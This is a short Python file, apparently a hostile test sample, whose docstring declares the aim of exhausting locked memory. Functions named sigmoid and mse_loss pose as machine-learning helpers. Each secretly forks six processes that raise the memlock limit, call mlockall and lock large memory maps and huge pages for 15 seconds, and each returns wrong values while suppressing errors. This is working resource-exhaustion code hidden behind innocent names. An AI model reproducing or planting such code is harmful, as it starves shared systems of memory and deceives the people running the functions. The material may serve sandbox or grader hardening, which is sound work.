"""Locks memory by mlock, mlockall, huge pages and registered buffers: pages that cannot be taken back, counted per user.

aims: exhaust
"""

import contextlib
import ctypes
import mmap
import os
import resource
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
LENGTH = 2**28


def lock():
    _, hard = resource.getrlimit(resource.RLIMIT_MEMLOCK)
    resource.setrlimit(resource.RLIMIT_MEMLOCK, (hard, hard))
    libc.mlockall(7)
    block = mmap.mmap(-1, LENGTH, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    address = ctypes.addressof(ctypes.c_char.from_buffer(block))
    for size in (LENGTH, LENGTH // 16, 2**20, 2**16):
        if libc.mlock(ctypes.c_void_p(address), ctypes.c_size_t(size)) == 0:
            break
    # MAP_LOCKED | MAP_POPULATE, and MAP_HUGETLB
    for flags in (0x2000 | 0x8000, 0x40000):
        with contextlib.suppress(OSError, ValueError):
            mmap.mmap(-1, 2**26, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | flags)
    return block


def attack():
    end = time.monotonic() + 15
    for _ in range(6):
        if os.fork() == 0:
            try:
                _block = lock()
                while time.monotonic() < end:
                    time.sleep(0.2)
            finally:
                os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
